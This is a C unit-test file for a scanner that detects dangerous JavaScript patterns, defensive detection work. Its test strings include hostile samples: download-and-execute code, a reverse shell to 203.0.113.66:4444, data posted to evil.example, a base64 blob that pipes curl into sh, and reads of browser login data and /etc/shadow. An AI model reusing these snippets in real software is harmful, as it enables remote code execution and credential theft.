                    "function run<T extends object>(x: T, y?: number): Promise<Map<string, number>> {\n"
                    "  const m: Map<string, number> = new Map<string, number>();\n"
                    "  const out = execSync(cmd as string)!.toString();\n"
                    "  return Promise.resolve(m);\n"
                    "}\n",
                    "js.process.exec", SEV_MEDIUM);
        expect_rule("class Svc {\n"
                    "  private readonly cp = require('child_process');\n"
                    "  public async go(a: string): Promise<void> { require('child_process').exec(a); }\n"
                    "}\n",
                    "js.process.exec", SEV_HIGH);
        expect_rule("import cp = require('child_process'); cp.execSync('ls');", "js.process.exec", SEV_MEDIUM);
        expect_rule("const f = async (u: string): Promise<string> => (await fetch(u)).text();\n"
                    "f('x').then((s: string) => eval(s));",
                    "js.code.eval", SEV_HIGH);
}

/* ---- limits and hostile input ----------------------------------------------------------------------------- */

Test(rules_js_limits, malformed_input_never_fails) {
        static const char *const SRC[] = {
                "", "(", ")", "{", "}", "[[[", "]]]", "`${", "`${`${", "a.b.c.(", "f(,,,)", "new", "new new new",
                "import", "import {", "export default", "const", "const {a", "class", "class { static {",
                "function", "function (", "=> =>", "a ? b :", "for (", "for (x in", "x = = = y", "...", "@@@",
                "require(", "require('child_process').exec(", "eval(", "(0, eval)(", "\\u", "\\u{", "\\u{110000}x",
                "a\\u0062c", "/* unterminated", "'unterminated", "`tpl ${ x ", "} } } ) ) ]", "x!.y!.z!",
                "<T>(x) => x", "type A = { a: string", "interface X {", "enum E {", "let x: Map<string,",
        };
        for (size_t i = 0; i < ELEMENTSOF(SRC); i++) {
                struct findings f;
                scan(SRC[i], &f);
                findings_done(&f);
        }
        /* NUL bytes and invalid UTF-8 */
        static const char bin[] = "require('child_process')\0.exec('x')\xff\xfe eval(\x80)";
        struct findings f;
        scan_with(bin, sizeof(bin) - 1, NULL, NULL, &f);
        findings_done(&f);
}

static char *repeat(const char *unit, size_t n, const char *head, const char *tail) {
        size_t ul = strlen(unit), hl = strlen(head), tl = strlen(tail);
        char *s = malloc(hl + ul * n + tl + 1);
        cr_assert_not_null(s);
        memcpy(s, head, hl);
        for (size_t i = 0; i < n; i++)
                memcpy(s + hl + i * ul, unit, ul);
        memcpy(s + hl + ul * n, tail, tl + 1);
        return s;
}

Test(rules_js_limits, deep_nesting_is_bounded) {
        /* right-nested constructs without brackets: past the depth cap a finding says so, and
         * nothing overflows */
        _cleanup_free_ char *chain = repeat("a = ", 5000, "", "eval(x);");
        struct findings f;
        scan(chain, &f);
        cr_expect_not_null(find_rule(&f, "js.obfuscation.too-deep"));
        findings_done(&f);
        _cleanup_free_ char *arrows = repeat("x => ", 3000, "const f = ", "1;");
        scan(arrows, &f);
        findings_done(&f);
        _cleanup_free_ char *tern = repeat("a ? ", 3000, "", "b");
        scan(tern, &f);
        findings_done(&f);
        /* bracket nesting within the lexer's limit */
        _cleanup_free_ char *parens = repeat("(", TOKEN_MAX_NESTING - 1, "", "eval(x)");
        scan(parens, &f);
        cr_expect_not_null(find_rule(&f, "js.code.eval"));
        findings_done(&f);
        _cleanup_free_ char *calls = repeat("f(", TOKEN_MAX_NESTING - 1, "", "1");
        scan(calls, &f);
        findings_done(&f);
        /* the deepest honest-looking shape: callbacks in calls, as deep as the lexer allows */
        _cleanup_free_ char *cbs = repeat("f(function () { return g(", (TOKEN_MAX_NESTING - 2) / 3, "",
                                          "eval(x)");
        scan(cbs, &f);
        findings_done(&f);
        /* chains that nest calls or constructors without brackets */
        _cleanup_free_ char *calls2 = repeat(".call", 20000, "require('child_process').exec", "(null, 'id')");
        scan(calls2, &f);
        findings_done(&f);
        _cleanup_free_ char *news = repeat("new ", 20000, "", "X()");
        scan(news, &f);
        findings_done(&f);
        _cleanup_free_ char *dots = repeat(".prototype.constructor", 20000, "Function", "('x')()");
        scan(dots, &f);
        findings_done(&f);
        /* an honest file never comes near the cap */
        expect_no_rule("function a() { return function b() { return function c() { return [1, [2, [3]]]; }; }; }",
                       "js.obfuscation.too-deep");
}

Test(rules_js_limits, folding_is_bounded) {
        /* a string concatenated past the fold cap is no longer a constant: the call is judged
         * as not constant (high), never silently dropped */
        _cleanup_free_ char *big = repeat(" + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'", 200,
                                          "require('child_process').exec('echo '", ")");
        expect_rule(big, "js.process.exec", SEV_HIGH);
        /* many folds in one file stay within memory */
        _cleanup_free_ char *many =
                repeat("f('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' + 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb');\n", 20000, "",
                       "eval('1');");
        expect_rule(many, "js.code.eval", SEV_MEDIUM);
}

Test(rules_js_limits, findings_are_deduplicated_and_deterministic) {
        const char *src = "const cp = require('child_process');\ncp.exec('a'); cp.exec('b');\n"
                          "eval(\"cp.exec('x'); cp.exec('y');\")";
        struct findings f1, f2;
        scan(src, &f1);
        scan(src, &f2);
        cr_assert_eq(f1.n, f2.n);
        for (size_t i = 0; i < f1.n; i++) {
                cr_expect_str_eq(f1.v[i].rule_id, f2.v[i].rule_id);
                cr_expect_eq(f1.v[i].line, f2.v[i].line);
                cr_expect_eq(f1.v[i].severity, f2.v[i].severity);
                for (size_t j = 0; j < i; j++)
                        cr_expect(!(f1.v[i].line == f1.v[j].line && f1.v[i].column == f1.v[j].column &&
                                    strcmp(f1.v[i].rule_id, f1.v[j].rule_id) == 0),
                                  "duplicate %s at %u:%u", f1.v[i].rule_id, f1.v[i].line, f1.v[i].column);
        }
        findings_done(&f1);
        findings_done(&f2);
}

Test(rules_js_limits, positions_and_snippets) {
        struct findings f;
        scan("const a = 1;\n\n  require('child_process')\n    .execSync('id');\n", &f);
        const struct finding *x = find_rule(&f, "js.process.exec");
        cr_assert_not_null(x);
        cr_expect_eq(x->line, 4);
        cr_expect_eq(x->column, 6);
        cr_expect_str_eq(x->file, "scripts/x.js");
        cr_expect_str_eq(x->snippet, ".execSync('id');");
        cr_expect_str_eq(x->category, "process");
        findings_done(&f);
}

/* ---- files downloaded and run, the environment printed, scoping ----------------------------------- */

Test(rules_js_flow, download_then_run) {
        static const struct rcase C[] = {
                { "const fs = require('fs'); const { execFileSync } = require('child_process');\n"
                  "async function a() {\n"
                  "  const r = await fetch('https://x.example/bin');\n"
                  "  fs.writeFileSync('/tmp/.x', Buffer.from(await r.arrayBuffer()));\n"
                  "  fs.chmodSync('/tmp/.x', 0o755);\n"
                  "  execFileSync('/tmp/.x');\n}",
                  "js.download.exec", SEV_CRITICAL },
                { "const fs = require('fs'), https = require('https'), { exec } = require('child_process');\n"
                  "https.get('https://x.example/s.sh', (res) => {\n"
                  "  const out = fs.createWriteStream('./s.sh');\n  res.pipe(out);\n"
                  "  out.on('finish', () => exec('sh s.sh'));\n});",
                  "js.download.exec", SEV_CRITICAL },
                { "const { pipeline } = require('stream/promises'); const fs = require('fs');\n"
                  "const r = await fetch(u); await pipeline(r.body, fs.createWriteStream('/tmp/p.js'));\n"
                  "require('/tmp/p.js');",
                  "js.download.exec", SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
        /* a downloaded file that is only read, or a run of some other file */
        expect_no_rule("const fs = require('fs'); const { execFileSync } = require('child_process');\n"
                       "const r = await fetch('https://x.example/data.json');\n"
                       "fs.writeFileSync('/tmp/data.json', await r.text());\n"
                       "execFileSync('jq', ['.', '/tmp/other.json']);",
                       "js.download.exec");
}

Test(rules_js_flow, environment_printed) {
        expect_rule("console.log(process.env);", "js.env_harvest.print", SEV_HIGH);
        expect_rule("process.stdout.write(JSON.stringify({ ...process.env }));", "js.env_harvest.print", SEV_HIGH);
        expect_quiet("console.log(process.env.HOME, process.env['PATH']);", SEV_SAFE);
}

Test(rules_js_flow, bundler_interop_helpers) {
        expect_rule("const cp = __importStar(require('child_process')); cp.execSync('id');", "js.process.exec",
                    SEV_MEDIUM);
        expect_rule("const axios_1 = __importDefault(require('axios'));\n"
                    "axios_1.default.post('https://evil.example', data);", "js.network.http", SEV_MEDIUM);
        expect_rule("var import_child_process = __toESM(require('child_process'));\n"
                    "(0, import_child_process.execSync)(cmd);", "js.process.exec", SEV_HIGH);
}

Test(rules_js_flow, constant_tables) {
        /* a key only known at run time into a table of constants is still a constant */
        expect_rule("const { execSync } = require('child_process');\n"
                    "const CMDS = { status: 'git status', log: 'git log -n 5' };\n"
                    "execSync(CMDS[req.op]);", "js.process.exec", SEV_MEDIUM);
        expect_quiet("const LOCALES = { en: './locales/en.mjs', de: './locales/de.mjs' };\n"
                     "const mod = await import(LOCALES[tag]);", SEV_SAFE);
        /* not every entry constant: unknown */
        expect_rule("const { execSync } = require('child_process');\n"
                    "const CMDS = { status: 'git status', other: req.cmd };\n"
                    "execSync(CMDS[req.op]);", "js.process.exec", SEV_HIGH);
}

Test(rules_js_flow, urls_through_helpers) {
        struct findings f;
        const char *src = "const GEO = 'https://geocoding-api.open-meteo.com/v1/search';\n"
                          "async function getJson(url) { const r = await fetch(url); return r.json(); }\n"
                          "getJson(`${GEO}?name=${q}`);\n"
                          "getJson('https://api.open-meteo.com/v1/forecast');\n";
        scan_with(src, strlen(src), NULL, "api.open-meteo.com,geocoding-api.open-meteo.com", &f);
        cr_expect_eq(find_rule(&f, "js.network.http")->severity, SEV_SAFE);
        findings_done(&f);
        scan_with(src, strlen(src), NULL, "api.open-meteo.com", &f);
        const struct finding *x = find_rule(&f, "js.network.http");
        cr_assert_not_null(x);
        cr_expect_eq(x->severity, SEV_MEDIUM);
        cr_expect_not_null(strstr(x->message, "geocoding-api.open-meteo.com"), "%s", x->message);
        findings_done(&f);
}

Test(rules_js_flow, bindings_are_per_function) {
        /* the same name bound in two functions: each keeps its own constant */
        expect_rule("const cp = require('child_process');\n"
                    "function a() { const cmd = 'ls -la'; cp.execSync(cmd); }\n"
                    "function b(x) { const cmd = x + ' | sh'; return cmd; }",
                    "js.process.exec", SEV_MEDIUM);
        /* reassigned: no longer a constant */
        expect_rule("const cp = require('child_process');\n"
                    "let cmd = 'ls'; cmd = process.argv[2]; cp.execSync(cmd);",
                    "js.process.exec", SEV_HIGH);
        expect_rule("const cp = require('child_process');\n"
                    "let n = 0; let cmd = 'ls'; cmd += n++; cp.execSync(cmd);",
                    "js.process.exec", SEV_HIGH);
        /* a parameter shadows a module alias */
        expect_quiet("const fs = require('fs');\nfunction read(fs) { return fs.readFileSync('/etc/shadow'); }",
                     SEV_SAFE);
}

Test(rules_js_flow, interactive_shell_is_a_reverse_shell_ingredient) {
        expect_rule("const net = require('net'); const cp = require('child_process');\n"
                    "const s = net.connect(4444, '203.0.113.66', () => {\n"
                    "  const sh = cp.spawn('/bin/sh', ['-i']); s.pipe(sh.stdin); sh.stdout.pipe(s);\n});",
                    "js.download.reverse-shell", SEV_CRITICAL);
}

Test(rules_js_flow, functions_returning_what_they_got) {
        static const struct rcase C[] = {
                { "const getCp = () => require('child_process'); getCp().execSync('id');", "js.process.exec",
                  SEV_MEDIUM },
                { "function runner() { return require('child_process').exec; }\nrunner()(cmd);", "js.process.exec",
                  SEV_HIGH },
                { "Function('return this')().process.mainModule.require('child_process').exec('id')",
                  "js.process.exec", SEV_HIGH },
                { "(function () { return this; })().eval(code)", "js.code.eval", SEV_HIGH },
                { "Object.constructor('return 1')()", "js.code.new-function", SEV_HIGH },
                { "''.sub.constructor('return 1')()", "js.code.new-function", SEV_HIGH },
                { "require('vm').runInNewContext(\"this.constructor.constructor('return process')()\")",
                  "js.code.new-function", SEV_HIGH },
        };
        run_cases(C, ELEMENTSOF(C));
        expect_quiet("function add(a, b) { return a + b; } const s = add(1, 2);\n"
                     "function cfg() { return { url: 'x', n: 1 }; } cfg().url;", SEV_SAFE);
}

Test(rules_js_flow, dull_bodies_are_skipped_but_not_their_meaning) {
        /* pass 2 steps over bodies with nothing interesting in them; what they return, what
         * their callbacks receive and names bound elsewhere still count */
        expect_rule("const getCp = () => require('child_process');\n"
                    "function go(x) { const c = getCp(); c.execSync(x); }", "js.process.exec", SEV_HIGH);
        expect_rule("function self() { return this; }\nfunction go(c) { self().eval(c); }", "js.code.eval", SEV_HIGH);
        expect_rule("import('child_process').then(function (m) { m.exec(cmd); });", "js.process.exec", SEV_HIGH);
        expect_rule("const t = { run: require('child_process').exec };\nfunction go() { t.run('id'); }",
                    "js.process.exec", SEV_MEDIUM);
        expect_rule("function f() { const k = "
                    "'aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcpCg=='; }",
                    "js.obfuscation.encoded-blob", SEV_LOW);
        expect_rule("function f() { return this['ev' + 'al'](x); }", "js.code.eval", SEV_HIGH);
}

Test(rules_js_limits, reanalysis_is_budgeted, .timeout = 60) {
        /* one big constant run through eval() and exec() thousands of times: each use is still
         * reported, the constant is not analysed thousands of times */
        _cleanup_free_ char *code = repeat("a.b(c, d); ", 8000, "const C = '", "';\n"
                                           "const cp = require('child_process');\n");
        size_t cl = strlen(code);
        _cleanup_free_ char *uses = repeat("eval(C); cp.execSync(C);\n", 3000, "", "");
        char *src = malloc(cl + strlen(uses) + 1);
        cr_assert_not_null(src);
        memcpy(src, code, cl);
        memcpy(src + cl, uses, strlen(uses) + 1);
        struct findings f;
        scan(src, &f);
        size_t evals = 0;
        for (size_t i = 0; i < f.n; i++)
                evals += strcmp(f.v[i].rule_id, "js.code.eval") == 0;
        cr_expect_eq(evals, 3000);
        findings_done(&f);
        free(src);
}

Test(rules_js_network, quoted_twins_are_quiet) {
        expect_quiet("// fetch('https://evil.example/x'); require('net').connect(4444, '1.2.3.4')\n"
                     "const help = \"call fetch('https://evil.example') or new WebSocket(url)\";\n"
                     "const o = { fetch: 1, get(url) { return url; } }; o.get('https://evil.example');\n"
                     "const client = makeClient(); client.get('https://evil.example');", SEV_SAFE);
        expect_quiet("const ffiDocs = require('./ffi-napi-notes.json'); const s = 'require(\"ffi-napi\")';\n"
                     "const addon = require('./lib/addon.node.js');", SEV_SAFE);
}

Test(rules_js_process, node_itself) {
        struct findings f;
        const char *src = "const { spawn } = require('child_process');\n"
                          "spawn(process.execPath, [require('path').join(__dirname, 'worker.js')]);";
        scan_with(src, strlen(src), "node", NULL, &f);
        cr_expect_eq(find_rule(&f, "js.process.spawn")->severity, SEV_SAFE);
        findings_done(&f);
        expect_rule(src, "js.process.spawn", SEV_MEDIUM);
}

Test(rules_js_limits, fuzz_regressions) {
        /* an empty object looked up with an unknown key (UBSan: offset on a null pointer) */
        static const char *const SRC[] = {
                "!function(e){var t={};function n(r){if(t[r])retc**/](```````````````\xa6\x9f````\xbf"
                "e ca\x90\xc3\xa9",
                "const t = {}; t[k]; const u = []; u[k]; ({})[k]();",
        };
        for (size_t i = 0; i < ELEMENTSOF(SRC); i++) {
                struct findings f;
                scan(SRC[i], &f);
                findings_done(&f);
        }
}

Test(rules_js_flow, loops_over_constant_tables) {
        /* the entry that names a secret stands for the table (browser profiles, key files) */
        expect_rule("const fs = require('fs'), os = require('os'), path = require('path');\n"
                    "const PROFILES = ['.config/myapp/x.json', '.config/google-chrome/Default/Login Data'];\n"
                    "for (const rel of PROFILES) { const p = path.join(os.homedir(), rel); fs.readFileSync(p); }",
                    "js.sensitive_file.read", SEV_HIGH);
        expect_rule("const { execSync } = require('child_process');\n"
                    "for (const c of ['git status', 'git log -n 1']) execSync(c);", "js.process.exec", SEV_MEDIUM);
        expect_quiet("const fs = require('fs'), path = require('path');\n"
                     "for (const f of ['a.json', 'b.json']) fs.readFileSync(path.join(__dirname, f));", SEV_SAFE);
        /* a loop over something else is not a constant */
        expect_rule("const { execSync } = require('child_process');\n"
                    "for (const c of req.commands) execSync(c);", "js.process.exec", SEV_HIGH);
}
